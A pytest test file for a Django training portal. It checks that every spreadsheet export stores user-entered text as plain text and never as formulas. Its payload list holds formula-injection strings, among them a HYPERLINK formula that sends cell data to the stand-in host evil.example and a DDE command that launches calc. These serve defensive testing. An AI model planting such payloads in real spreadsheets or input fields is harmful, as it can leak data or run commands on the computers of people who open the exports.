"""Every export writes user text as text: no cell of a portal spreadsheet is a formula.

Each formula prefix (= + - @, tab, CR) is planted in every user-editable text field that
reaches an export; the files are read back with openpyxl (cell types) and python-calamine
(what a spreadsheet program shows), and the text must come back as typed.
"""

import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone
from python_calamine import CalamineWorkbook

from core.spreadsheets import xlsx_bytes
from trainees.models import District, Member, MemberGroup

pytestmark = pytest.mark.django_db

YEAR = datetime.date.today().year
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&C3,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes):
    """(openpyxl cells, calamine values) of the first sheet."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    typed = [cell for row in book.active.iter_rows() for cell in row]
    shown = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    return typed, [value for row in shown for value in row]


def assert_text_survives(content: bytes, payload: str):
    payload = payload.replace("\r", "\n")  # XML stores every line end as LF; the text is otherwise intact
    typed, shown = cells(content)
    assert not [c.coordinate for c in typed if c.data_type == "f"], "a formula cell in the export"
    assert payload in [c.value for c in typed]
    assert payload in shown


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_writer_keeps_every_formula_prefix_as_text(payload):
    content = xlsx_bytes(headers=["名称"], rows=[[payload]], sheet_title="测试")
    assert_text_survives(content, payload)


def test_control_characters_a_workbook_cannot_hold_are_dropped_not_fatal():
    content = xlsx_bytes(headers=["名称"], rows=[["张\x07三\x00"]], sheet_title="测试")
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].value == "张三"


def test_the_writer_keeps_dates_as_dates_and_numbers_as_numbers():
    content = xlsx_bytes(
        headers=["日期", "学时"], rows=[[datetime.date(2026, 3, 1), 2.5]], sheet_title="测试"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet["A2"].is_date and sheet["B2"].value == 2.5
    assert sheet.freeze_panes == "A2"


def test_column_widths_follow_the_content():
    long_header = "平均群众满意度（%）"
    content = xlsx_bytes(
        headers=[long_header, "名"], rows=[["短", "很长很长很长很长的党支部名称"]], sheet_title="测"
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.column_dimensions["A"].width >= 2 * len(long_header) - 2
    assert sheet.column_dimensions["B"].width >= 28


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_member_export_keeps_planted_formulas_as_text(cast, client_as, payload):
    member = cast.member_a
    planted = {}
    for field in ("name", "ethnicity", "position"):  # as much of the payload as the column holds
        planted[field] = payload[: Member._meta.get_field(field).max_length]
        setattr(member, field, planted[field])
    member.save(update_fields=list(planted))
    cast.branch_a.name = payload
    cast.branch_a.save(update_fields=["name"])
    group = MemberGroup.objects.create(name=payload)
    member.groups.add(group)
    response = client_as("county").get(reverse("trainees:member-export"))
    for value in {payload, *planted.values()}:
        assert_text_survives(response.content, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_points_ranking_keeps_planted_formulas_as_text(cast, client_as, payload):
    cast.member_a.name = payload
    cast.member_a.save(update_fields=["name"])
    cast.branch_a.name = payload + "支部"
    cast.branch_a.save(update_fields=["name"])
    response = client_as("county").get(
        reverse("evaluations:performance-xlsx"), {"township": cast.township_a.pk, "year": YEAR}
    )
    assert_text_survives(response.content, payload)
    assert_text_survives(response.content, payload + "支部")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_the_annual_summary_keeps_planted_formulas_as_text(cast, client_as, payload):
    cast.township_a.name = payload
    cast.township_a.save(update_fields=["name"])
    District.objects.filter(pk=cast.township_b.district_id).update(name=payload + "片区")
    response = client_as("county").get(reverse("evaluations:report-summary-xlsx"), {"year": YEAR})
    assert_text_survives(response.content, payload)
    assert_text_survives(response.content, payload + "片区")


# --- every export, with the payload planted in every user-editable text field that reaches it ------


def _plant(obj, payload: str, *fields: str) -> list[str]:
    """Put as much of ``payload`` as each column holds into ``fields`` of ``obj``; the values planted."""
    planted = []
    for name in fields:
        max_length = type(obj)._meta.get_field(name).max_length
        value = payload[:max_length] if max_length else payload
        setattr(obj, name, value)
        planted.append(value)
    obj.save(update_fields=list(fields))
    return planted


def _planted_world(cast, payload: str) -> dict[str, tuple[str, dict, list[str]]]:
    """Every export's URL (with its query) and the planted values it must show as typed text."""
    from courses.models import Attendance, Enrollment, StudyHoursEntry
    from evaluations.models import NeedsSurvey
    from evaluations.services import survey_answer, survey_question_add
    from tests.factories_courses import CourseFactory, InstructorFactory, SessionFactory
    from tests.factories_evaluations import ImprovementItemFactory, QuarterlyReviewFactory

    member, county = cast.member_a, cast.users["county"]
    people = _plant(member, payload, "name", "ethnicity", "position")
    places = _plant(cast.branch_a, payload, "name") + _plant(cast.township_a, payload, "name")
    group = MemberGroup.objects.create(name=payload[:50])
    member.groups.add(group)
    district = cast.township_a.district
    places += _plant(district, payload, "name")

    now = timezone.now()
    session = SessionFactory(
        township=cast.township_a, status="held", starts_at=now, ends_at=now + datetime.timedelta(hours=2)
    )
    session_text = _plant(session, payload, "title", "venue")
    course = CourseFactory()
    instructor = InstructorFactory()
    session_text += _plant(course, payload, "title") + _plant(instructor, payload, "name")
    session.course = course
    session.save(update_fields=["course"])
    session.instructors.set([instructor])
    Enrollment.objects.create(session=session, member=member)
    attendance = Attendance.objects.create(session=session, member=member, status="excused", leave_reason="x")
    marks = _plant(attendance, payload, "leave_reason")
    entry = StudyHoursEntry.objects.create(
        member=member, date=timezone.localdate(), hours=1, source="online", recorded_by=county
    )
    marks += _plant(entry, payload, "note")
    year = timezone.localtime(now).year

    review = QuarterlyReviewFactory(district=district, townships=[cast.township_a])
    item = ImprovementItemFactory(review=review, township=cast.township_a)
    item_text = _plant(item, payload, "problem", "measure", "owner", "evidence_required", "return_reason")

    survey = NeedsSurvey.objects.create(title="需求调查", created_by=county)
    question_text = payload[:200]
    option_text = (payload + "选项")[:120]
    survey_question_add(
        survey=survey, text=question_text, kind="single", required=True, options=[(option_text, [])]
    )
    survey_question_add(survey=survey, text="建议", kind="text", required=False, options=[])
    NeedsSurvey.objects.filter(pk=survey.pk).update(status=NeedsSurvey.Status.OPEN)
    survey.refresh_from_db()
    single, text = survey.questions.order_by("order", "pk")
    survey_answer(survey=survey, member=member, answers={single: single.options.get().pk, text: payload})

    return {
        "trainees:member-export": (reverse("trainees:member-export"), {}, people + places[:2] + [group.name]),
        "evaluations:performance-xlsx": (
            reverse("evaluations:performance-xlsx"), {"township": cast.township_a.pk, "year": year},
            people[:1] + places[:1],
        ),
        "evaluations:report-summary-xlsx": (reverse("evaluations:report-summary-xlsx"), {"year": year}, places[1:]),
        "courses:session-list-xlsx": (reverse("courses:session-list-xlsx"), {}, session_text + places[1:2]),
        "courses:attendance-xlsx": (
            reverse("courses:attendance-xlsx", args=[session.pk]), {}, people[:1] + places[:2] + marks[:1]
        ),
        "courses:ledger-xlsx": (reverse("courses:ledger-xlsx"), {"year": year}, people[:1] + places[:2]),
        "courses:ledger-member-xlsx": (
            reverse("courses:ledger-member-xlsx", args=[member.pk]), {"year": year}, session_text[:2] + marks
        ),
        "evaluations:item-list-xlsx": (reverse("evaluations:item-list-xlsx"), {}, item_text + places[1:]),
        "evaluations:survey-results-xlsx": (
            reverse("evaluations:survey-results-xlsx", args=[survey.pk]), {},
            [question_text, option_text, payload, places[1]],
        ),
    }  # fmt: skip


EXPORTS = [
    "trainees:member-export",
    "evaluations:performance-xlsx",
    "evaluations:report-summary-xlsx",
    "courses:session-list-xlsx",
    "courses:attendance-xlsx",
    "courses:ledger-xlsx",
    "courses:ledger-member-xlsx",
    "evaluations:item-list-xlsx",
    "evaluations:survey-results-xlsx",
]


def test_the_list_of_exports_is_every_xlsx_url():
    from django.urls import get_resolver

    def names(resolver, prefix=""):
        for entry in resolver.url_patterns:
            if hasattr(entry, "url_patterns"):
                yield from names(entry, f"{prefix}{entry.namespace}:" if entry.namespace else prefix)
            elif entry.name and ("xlsx" in entry.name or entry.name.endswith("export")):
                yield f"{prefix}{entry.name}"

    assert set(names(get_resolver())) - {"audit-export"} == set(EXPORTS)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_export_keeps_planted_formulas_as_text(cast, client_as, payload):
    """Each formula prefix in every user text field, every export read back by both readers."""
    world = _planted_world(cast, payload)
    assert set(world) == set(EXPORTS)
    client = client_as("county")
    for name, (url, query, planted) in world.items():
        response = client.get(url, query)
        assert response.status_code == 200, name
        typed, _shown = cells(response.content)
        assert not [c.coordinate for c in typed if c.data_type == "f"], f"{name}: a formula cell"
        for value in planted:
            assert_text_survives(response.content, value)
